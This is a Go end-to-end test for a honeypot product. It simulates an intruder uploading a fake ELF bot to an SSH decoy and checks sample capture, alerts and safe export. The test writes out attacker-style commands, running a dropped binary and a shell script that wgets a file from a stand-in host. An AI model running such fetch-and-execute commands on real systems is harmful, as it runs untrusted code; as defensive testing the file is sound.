package e2e

import (
	"bytes"
	"encoding/json"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/test/rig"
)

// scp copies a file to a decoy.
func scp(t *testing.T, addr, user, password, file, to string) {
	t.Helper()
	rig.Need(t, "scp")
	host, port, err := net.SplitHostPort(addr)
	if err != nil {
		t.Fatal(err)
	}
	ask := filepath.Join(t.TempDir(), "ask")
	if err := os.WriteFile(ask, []byte("#!/bin/sh\necho \"$HG_PASSWORD\"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("setsid", "-w", "scp", "-P", port, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "NumberOfPasswordPrompts=1", "-o", "PubkeyAuthentication=no", "-o", "ConnectTimeout=60", file, user+"@"+host+":"+to)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "DISPLAY=:0", "HG_PASSWORD="+password, "HOME="+t.TempDir())
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("scp: %v\n%s", err, out)
	}
}

// TestSamples follows what attackers bring from the upload to the analyst's
// folder, over a kill of the core.
func TestSamples(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole product; -short leaves it out")
	}
	data := t.TempDir()
	core := rig.Start(t, data, fast...)
	addr := core.Sensor("ssh")
	user, password := breakIn(t, addr)
	malware := append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), bytes.Repeat([]byte("\x00http://198.51.100.77/c2 \x00"), 9000)...)
	file := filepath.Join(t.TempDir(), "bot")
	if err := os.WriteFile(file, malware, 0o600); err != nil {
		t.Fatal(err)
	}
	scp(t, addr, user, password, file, "/tmp/bot")
	scp(t, addr, user, password, file, "/var/tmp/again")
	ssh(t, addr, user, password, "", "cd /tmp; chmod +x bot; ./bot; rm bot")
	ssh(t, addr, user, password, "", `echo -ne '#!/bin/sh\nwget http://203.0.113.99/x\n' > /tmp/l.sh; sh /tmp/l.sh`)

	var samples []honeyguide.Sample
	rig.Eventually(t, 20*time.Second, "both samples", func() bool {
		var err error
		samples, err = rig.List[honeyguide.Sample](core, "/api/v1/samples")
		return err == nil && len(samples) == 2
	})
	at := slices.IndexFunc(samples, func(s honeyguide.Sample) bool { return strings.HasPrefix(s.Type, "elf 64-bit x86-64") })
	if at < 0 || samples[at].Count < 2 || samples[at].Size != int64(len(malware)) || samples[at].Kept != "yes" || len(samples[at].Paths) < 2 || len(samples[at].Indicators) < 3 {
		t.Fatalf("samples %+v", samples)
	}
	bot := samples[at]
	rig.Eventually(t, 20*time.Second, "the run", func() bool {
		all, err := rig.List[honeyguide.Sample](core, "/api/v1/samples?type=elf")
		return err == nil && len(all) == 1 && all[0].Executed >= 1
	})
	alerts := awaitAlerts(t, core, "malware_drop")
	if i := slices.IndexFunc(alerts, func(a honeyguide.Alert) bool { return a.RuleID == "malware_drop" }); alerts[i].Severity < honeyguide.SeverityHigh {
		t.Errorf("a program was dropped: severity %v", alerts[i].Severity)
	}
	core.Kill()
	rig.Start(t, data, fast...)
	out := filepath.Join(t.TempDir(), "bot.sample")
	if _, errs, status := rig.CLI(t, data, nil, "samples", "export", bot.ID[:12], "-O", out); status != 0 || !strings.Contains(errs, "malware") {
		t.Fatalf("export: %d %s", status, errs)
	}
	if got, err := os.ReadFile(out); err != nil || !bytes.Equal(got, malware) {
		t.Errorf("exported %d bytes, %v", len(got), err)
	}
	if i, err := os.Stat(out); err != nil || i.Mode().Perm() != 0o400 {
		t.Errorf("mode %v, %v", i.Mode(), err)
	}
	if _, _, status := rig.CLI(t, data, nil, "samples", "export", bot.ID, "-O", out[:len(out)-7]+".exe"); status != 2 {
		t.Errorf("export under any name: status %d", status)
	}
	show, _, _ := rig.CLI(t, data, nil, "samples", "show", bot.ID[:12], "-o", "table")
	if !strings.Contains(show, "198.51.100.77") || !strings.Contains(show, "/var/tmp/again") {
		t.Errorf("shown %s", show)
	}
	session, _, _ := rig.CLI(t, data, nil, "sessions", "show", bot.Sessions[0], "-o", "table")
	if !strings.Contains(session, bot.ID[:16]) || !strings.Contains(session, "Brought") {
		t.Errorf("session %s", session)
	}
	atRest(t, data, malware)
	var page map[string]any
	list, _, _ := rig.CLI(t, data, nil, "samples", "list", "-o", "json")
	if err := json.Unmarshal([]byte(list), &page); err != nil {
		t.Errorf("list: %v", err)
	}
}

// atRest looks for the sample's first bytes in every file of the data folder.
func atRest(t *testing.T, data string, malware []byte) {
	t.Helper()
	_ = filepath.WalkDir(data, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return nil
		}
		if raw, err := os.ReadFile(path); err == nil && bytes.Contains(raw, malware[:200]) {
			t.Errorf("%s holds the malware as it is", path)
		}
		return nil
	})
}
